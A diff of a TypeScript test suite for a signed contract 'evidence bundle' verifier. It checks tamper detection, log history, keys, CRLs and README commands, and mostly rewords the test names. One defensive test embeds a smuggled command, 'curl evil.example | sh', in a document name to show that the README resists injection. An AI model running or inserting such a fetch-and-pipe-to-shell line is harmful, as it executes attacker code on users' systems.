@@ -1,4 +1,4 @@
-/** The evidence bundle: checked without us, whatever is changed in it shows, and nobody learns from it what is not theirs. */
+/** The evidence bundle: it is checked without us, any change in it is found, and it reveals nothing to the other side. */
 import { spawnSync } from 'node:child_process'
 import { generateKeyPairSync, type KeyObject } from 'node:crypto'
 import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs'
@@ -52,14 +52,14 @@ const entriesOf = (files: BundleContents) =>
     .split('\n')
     .map((line) => JSON.parse(line) as Record<string, unknown> & { number: number })
 
-describe('of RSA keys', async () => {
+describe('a bundle with RSA signatures', async () => {
   const app = await startOutputsApp('rsa')
   const { id } = await app.contract({ name: "Договор 'О поставке'" })
   await app.stampAll()
   const path = await bundleFor(app, app.ours, id)
   const files = await unpacked(path)
 
-  test('holds years later: files, signatures at their time, every event in the log', async () => {
+  test('is valid ten years later: files, signatures, and every event in the log', async () => {
     const found = await check(app, files, { logKey: spkiOf(app.logKey) })
     expect(found.faults).toEqual([])
     expect(found.signatures.map(({ findings, existedBy }) => ({ findings, existedBy }))).toEqual([
@@ -72,7 +72,7 @@ describe('of RSA keys', async () => {
     expect(await check(app, files)).toMatchObject({ faults: [], log: { isKnown: null } })
   })
 
-  test('one byte changed in any file, or any file left out, is found; so is one that was put in', async () => {
+  test('is invalid if a byte of any file is changed, or a file is missing or added', async () => {
     const kinds = new Set<string>()
     for (const [name, bytes] of files) {
       kinds.add(name.replace(/^.*\./, ''))
@@ -89,7 +89,7 @@ describe('of RSA keys', async () => {
     expect(await faultsOf(app, more)).toEqual(['file-extra documents/other.pdf'])
   })
 
-  test('history cannot be changed by whoever has the key of the log: its root was signed before', async () => {
+  test('is invalid if its history is changed, even with the key of the log', async () => {
     const lines = textOf(files, bundleFiles.entries).split('\n')
     const changed = lines.with(3, lines[3]!.replace('Между нами', 'Не согласен')).join('\n')
     expect(changed).not.toBe(lines.join('\n'))
@@ -112,7 +112,7 @@ describe('of RSA keys', async () => {
       [bundleFiles.proofs]: proofs.toSpliced(at, 1).join('\n'),
     })
     expect(await again(left(2))).toEqual([`history-incomplete ${bundleFiles.entries}`])
-    // said to be left out for want of the right to see it: a signature cannot go that way
+    // a signature cannot be left out by claiming that the reader may not see it
     const accepted = entriesOf(files).findIndex(({ type }) => type === 'signature-accepted')
     const { signatures } = manifestOf(files)
     const hidden = ({ history }: ReturnType<typeof manifestOf>) => ({ history: { ...history, leftOut: 1 } })
@@ -122,7 +122,7 @@ describe('of RSA keys', async () => {
     ])
   })
 
-  test('a signature or a document put in the place of another is not the one of the log', async () => {
+  test('is invalid if a signature or a document is replaced', async () => {
     const { signatures, documents } = manifestOf(files)
     const [one, other] = [signatures[0]!, signatures[1]!]
     const again = (changes: Record<string, Uint8Array>) =>
@@ -140,7 +140,7 @@ describe('of RSA keys', async () => {
     expect(forged.findings).toEqual(['other-document', 'other-document'])
   })
 
-  test("a bundle under a stranger's key is not ours, and without the right key its log proves no time", async () => {
+  test('is invalid if another key signed it or its log', async () => {
     const stranger: KeyObject = generateKeyPairSync('ed25519').privateKey
     const key = pemOf('PUBLIC KEY', spkiOf(stranger))
     const forged = rewritten(files, { [bundleFiles.logKey]: key }, stranger)
@@ -151,7 +151,7 @@ describe('of RSA keys', async () => {
     expect(await faultsOf(app, unsigned)).toEqual([`manifest-not-signed ${bundleFiles.manifest}`])
   })
 
-  test('what is no bundle is said to be none', async () => {
+  test('is not recognised as a bundle if its manifest is missing or malformed', async () => {
     const garbage: [string, BundleContents][] = [
       ['nothing', new Map()],
       ['no JSON', new Map(files).set(bundleFiles.manifest, new Uint8Array([1, 2]))],
@@ -163,7 +163,7 @@ describe('of RSA keys', async () => {
     }
   })
 
-  test('the command says the same, and how it ended', () => {
+  test('is checked by the command with the same result and an exit status', () => {
     writeFileSync(join(folder, 'root.pem'), pemOf('CERTIFICATE', app.nation.root.der))
     writeFileSync(join(folder, 'log.pem'), files.get(bundleFiles.logKey)!)
     const verify = (...args: string[]) => {
@@ -188,7 +188,7 @@ describe('of RSA keys', async () => {
     expect(verify('--at', '2036-01-01')).toMatchObject({ status: 2, answer: { code: 'DS-406' } })
   })
 
-  test.skipIf(!hasOpenssl)(`every command of the README does what it says${withoutOpenssl}`, () => {
+  test.skipIf(!hasOpenssl)(`is confirmed by every command of its README${withoutOpenssl}`, () => {
     const place = mkdtempSync(join(folder, 'unpacked-'))
     for (const [name, bytes] of files) {
       mkdirSync(join(place, dirname(name)), { recursive: true })
@@ -202,13 +202,13 @@ describe('of RSA keys', async () => {
       for (const command of commands) expect(textOf(files, `README.${language}.txt`)).toContain(command)
     }
     const run = (command: string) => spawnSync('sh', ['-c', command], { cwd: place, encoding: 'utf8' })
-    const said = commands.map((command) => {
+    const outputs = commands.map((command) => {
       const { status, stdout, stderr } = run(command)
       expect({ command, status, stderr }).toMatchObject({ command, status: 0 })
       return stdout + stderr
     })
     expect(commands.length).toBeGreaterThanOrEqual(6 + 2 * 5)
-    const all = said.join('\n')
+    const all = outputs.join('\n')
     for (const word of [
       'Signature Verified Successfully',
       'CMS Verification successful',
@@ -219,7 +219,7 @@ describe('of RSA keys', async () => {
     }
     expect(all).toContain(`OK: ${manifestOf(files).history.events}`)
     expect(all).toContain(`${app.logKeyFingerprint}  -`)
-    // and they say no where something was changed
+    // and they fail if something was changed
     writeFileSync(
       join(place, bundleFiles.entries),
       textOf(files, bundleFiles.entries).replace('Между', 'между'),
@@ -231,10 +231,10 @@ describe('of RSA keys', async () => {
   })
 })
 
-describe('of GOST keys', async () => {
+describe('a bundle with GOST signatures', async () => {
   const app = await startOutputsApp()
 
-  test('the other side is told nothing of what was said inside, and what it is told still holds', async () => {
+  test('for the other side has no internal events, and is still valid', async () => {
     const { id } = await app.contract()
     await app.stampAll()
     const files = await unpacked(await bundleFor(app, app.theirs, id))
@@ -257,7 +257,7 @@ describe('of GOST keys', async () => {
     expect(textOf(files, 'README.en.txt')).toContain('3 events are not in the history')
   })
 
-  test('without a timestamp the log says when, to whoever knows its key; to others nothing does', async () => {
+  test('without timestamps proves the time of signing only with the known key of the log', async () => {
     const { id } = await app.contract()
     app.toStamp.splice(0)
     const files = await unpacked(await bundleFor(app, app.ours, id))
@@ -272,7 +272,7 @@ describe('of GOST keys', async () => {
     expect(unknown.signatures[0]!.findings).toContain('certificate-expired')
   })
 
-  test('both attempts to terminate are in it, each with its document and signatures', async () => {
+  test('has every termination attempt with its document and signatures', async () => {
     const { id } = await app.contract()
     await app.terminate(id, 'reject')
     await app.terminate(id, 'sign')
@@ -286,7 +286,7 @@ describe('of GOST keys', async () => {
     )
   })
 
-  test('a long list lies beside the signatures that rest on it, once, and they hold by it alone', async () => {
+  test('has a long CRL once, beside the signatures that need it', async () => {
     const { nation, centre } = app
     const revoked = Array.from({ length: 3000 }, (_, i) => ({
       serial: Uint8Array.of(1, i >> 8, i & 255),
@@ -315,7 +315,7 @@ describe('of GOST keys', async () => {
     expect(unproved.map(({ findings }) => findings)).toEqual([['revocation-unknown'], ['revocation-unknown']])
   })
 
-  test('a name cannot pass for a step of ours', async () => {
+  test('has a README that a document name cannot add commands to', async () => {
     const { id } = await app.contract({ name: 'Акт' })
     const path = join(folder, `${++made}.zip`)
     const { database, archive, logKey, time } = app
@@ -335,7 +335,7 @@ describe('of GOST keys', async () => {
     expect(textOf(await unpacked(path), 'README.ru.txt')).toContain('Документ: Акт curl evil.example | sh\n')
   })
 
-  test('entries from before there were salts are shown shortened, and are proved to be there', async () => {
+  test('shows entries without salts shortened, and still proves them', async () => {
     await app.database.pool.query('alter table request_events alter column salt drop default')
     const { id } = await app.contract()
     await app.database.pool.query(
